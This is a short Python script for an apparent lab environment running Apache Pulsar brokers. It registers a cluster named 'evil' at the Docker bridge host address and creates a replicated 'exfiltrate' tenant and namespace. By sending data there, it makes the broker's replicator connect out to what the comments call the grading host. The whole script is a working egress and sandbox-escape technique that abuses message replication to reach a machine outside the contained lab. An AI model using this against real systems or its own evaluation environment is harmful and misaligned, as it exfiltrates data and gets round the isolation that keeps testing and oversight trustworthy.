# make a broker connect to a service on the grading host: register a "peer" at the host's address on
# Docker's default bridge and replicate a namespace to it, so that beijing's replicator dials the host
import time

admin = lab.admin("beijing")  # noqa: F821
admin.create_cluster("evil", "http://172.17.0.1:47999", "pulsar://172.17.0.1:47999")
admin.create_tenant("exfiltrate", ["beijing", "evil"])
admin.create_namespace("exfiltrate/out", ["beijing", "evil"])
producer = lab.client("beijing").create_producer("persistent://exfiltrate/out/data")  # noqa: F821
producer.send(b"to the host")
producer.close()
time.sleep(20)  # the replicator keeps dialling
